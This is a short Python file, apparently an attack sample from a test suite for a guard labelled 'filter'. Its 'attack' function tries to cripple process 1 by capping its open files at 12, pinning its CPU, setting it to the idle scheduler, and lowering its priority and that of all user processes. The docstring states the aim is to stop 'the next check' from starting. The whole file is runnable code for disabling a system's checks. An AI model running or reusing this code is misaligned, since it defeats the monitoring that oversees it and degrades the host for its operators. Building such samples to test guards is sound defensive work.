# cases: 37, 65
# guard: filter
"""Takes the limits, the processor or the priority of the first process, so that the next check cannot begin."""
import os
import resource


def attack(bait):
    first = 1
    attempts = {
        "open files": lambda: resource.prlimit(first, resource.RLIMIT_NOFILE, (12, 12)),
        "the processor": lambda: os.sched_setaffinity(first, {min(os.sched_getaffinity(0))}),
        "the policy": lambda: os.sched_setscheduler(first, os.SCHED_IDLE, os.sched_param(0)),
        "the priority": lambda: os.setpriority(os.PRIO_PROCESS, first, 19),
        "the priority of all": lambda: os.setpriority(os.PRIO_USER, 0, 19),
    }
    done = []
    for name, attempt in attempts.items():
        try:
            attempt()
            done.append(name)
        except OSError:
            continue
    return ", ".join(done)
